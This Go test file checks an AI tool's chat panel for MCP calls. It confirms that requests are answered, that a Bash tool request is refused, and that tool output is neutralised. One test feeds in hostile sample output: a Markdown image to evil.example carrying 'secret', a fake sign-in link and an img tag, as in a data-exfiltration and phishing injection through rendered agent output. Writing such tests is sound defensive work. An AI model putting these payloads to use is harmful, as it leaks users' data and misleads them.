package mcppanel

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/infer-workspace/infer/bridge/wire"
	"github.com/infer-workspace/infer/session/tools"
)

// sender records what the panel would be sent, one line per frame.
type sender struct {
	frames []string
	events []string
	text   strings.Builder
}

func (s *sender) add(f string, a ...any) error {
	s.frames = append(s.frames, fmt.Sprintf(f, a...))
	return nil
}
func (s *sender) Done() <-chan struct{} { return nil }
func (s *sender) Send(f wire.Frame) error {
	switch f := f.(type) {
	case wire.Mode:
		return s.add("mode %s", f.Mode)
	case wire.Conversations:
		return s.add("conversations %d %t", len(f.Conversations), f.Conversations != nil)
	case wire.ConversationSnapshot:
		return s.add("snapshot %d %t", len(f.Messages), f.Messages != nil)
	case wire.ChatEvent:
		var ev struct{ Type, Delta string }
		if err := json.Unmarshal(f.Event, &ev); err != nil {
			return err
		}
		s.events = append(s.events, ev.Type)
		s.text.WriteString(ev.Delta)
		return s.add("chat_event")
	case wire.History:
		return s.add("history %d %t", len(f.History), f.History != nil)
	case wire.Skills:
		return s.add("skills %d %t", len(f.Skills), f.Skills != nil)
	case wire.Models:
		return s.add("models %d %t %q", len(f.Models), f.Models != nil, f.Current)
	case wire.ToolResult:
		return s.add("tool_result %s %t %s", f.ID, f.Success, f.Error)
	}
	return s.add("%s", f.FrameType())
}
func (s *sender) ArtifactBase() string { return "" }

// Every panel request that the contract answers gets its answer, with
// empty lists (never null, which a panel may not take for a list), and
// nothing the panel asks changes the mode infer mcp runs in.
func TestEveryRequestIsAnswered(t *testing.T) {
	p := New("standard", nil)
	s := &sender{}
	p.Connected(s, "1.12.1")
	for _, f := range []wire.Frame{
		wire.ListConversations{},
		wire.ListSkills{},
		wire.ListHistory{},
		wire.ListModels{},
		wire.SelectModel{Model: "openai/gpt-4o"},
		wire.SetMode{Mode: "auto"},
		wire.NewSession{},
		wire.ResumeConversation{ID: "c1"},
		wire.Interrupt{},
		wire.ApprovalResponse{RequestID: "r1", Action: wire.ActionApprove},
		wire.ToolRequest{ID: "t1", ToolName: "Bash", ToolArgs: `{"command":"id"}`},
	} {
		p.Handle(s, f)
	}
	want := []string{
		"snapshot 0 true", "mode standard",
		"conversations 0 true",
		"skills 0 true",
		"history 0 true",
		`models 0 true ""`,
		`models 0 true ""`,
		"mode standard",
		"snapshot 0 true",
		"tool_result t1 false " + ToolRefusal,
	}
	if !slices.Equal(s.frames, want) {
		t.Fatalf("frames:\n got %q\nwant %q", s.frames, want)
	}
}

// A message is answered with a whole run whose text says what to do, and
// the panel's new chat commands with an empty conversation.
func TestAMessageIsAnsweredWithARun(t *testing.T) {
	p := New("standard", nil)
	s := &sender{}
	p.UserMessage(s, "open example.com")
	want := []string{"RUN_STARTED", "TEXT_MESSAGE_START", "TEXT_MESSAGE_CONTENT", "TEXT_MESSAGE_END", "RUN_FINISHED"}
	if !slices.Equal(s.events, want) {
		t.Fatalf("events %q, want %q", s.events, want)
	}
	if s.text.String() != Reply {
		t.Fatalf("text %q", s.text.String())
	}
	for _, cmd := range []string{"/clear", "/cls", "  "} {
		s := &sender{}
		p.UserMessage(s, cmd)
		if cmd == "  " {
			if len(s.frames) != 0 {
				t.Fatalf("an empty message was answered: %q", s.frames)
			}
			continue
		}
		if !slices.Equal(s.frames, []string{"snapshot 0 true"}) {
			t.Fatalf("%s: %q", cmd, s.frames)
		}
	}
}

// An MCP client's call is shown in the chat of the panel last connected,
// as a run of its own, and its outcome passes through unchanged.
func TestCallsAreShownInTheConnectedPanel(t *testing.T) {
	p := New("standard", nil)
	o := tools.Outcome{Call: tools.Call{ID: "mcp_1", Name: "BrowserTabs", Args: "{}", Origin: tools.OriginMCP}, Success: true, Output: "1 open tab"}
	if got := p.Ran(o); got.Output != o.Output || !got.Success {
		t.Fatalf("outcome changed: %+v", got)
	}
	s := &sender{}
	p.Connected(s, "1.12.1")
	p.Ran(o)
	want := []string{"RUN_STARTED", "TEXT_MESSAGE_START", "TEXT_MESSAGE_CONTENT", "TEXT_MESSAGE_END", "RUN_FINISHED"}
	if !slices.Equal(s.events, want) || s.text.String() != "MCP client · BrowserTabs — ✓ 1 open tab" {
		t.Fatalf("events %q text %q", s.events, s.text.String())
	}
}

// The panel renders a run's text as Markdown, and an MCP client's call is
// the client's words (its arguments) and a page's (the result's first
// line, a title): neither may become an image the panel fetches (carrying
// what it read to another host), a link, or HTML in infer's own voice.
func TestACallsLineIsNoMarkdown(t *testing.T) {
	p := New("standard", nil)
	s := &sender{}
	p.Connected(s, "1.12.1")
	p.Ran(tools.Outcome{Call: tools.Call{ID: "mcp_2", Name: "BrowserNavigate", Args: `{"url":"https://a.example/![x](https://evil.example/p.png)"}`, Origin: tools.OriginMCP},
		Success: true, Output: `Inbox ![](https://evil.example/c?q=secret) [Sign in again](https://evil.example/login) <img src=https://evil.example/i> **urgent**`})
	got := s.text.String()
	for _, md := range []string{"![", "](", "<img", "[Sign", "**"} {
		if strings.Contains(unescaped(got), md) {
			t.Errorf("the line keeps Markdown %q: %s", md, got)
		}
	}
	if !strings.Contains(got, `Sign in again`) || !strings.Contains(got, "evil.example") {
		t.Errorf("the line lost its words: %s", got)
	}
}

// unescaped is s without its backslash escapes: what a Markdown renderer
// could still take for Markdown.
func unescaped(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) {
			i++
			continue
		}
		b.WriteByte(s[i])
	}
	return b.String()
}
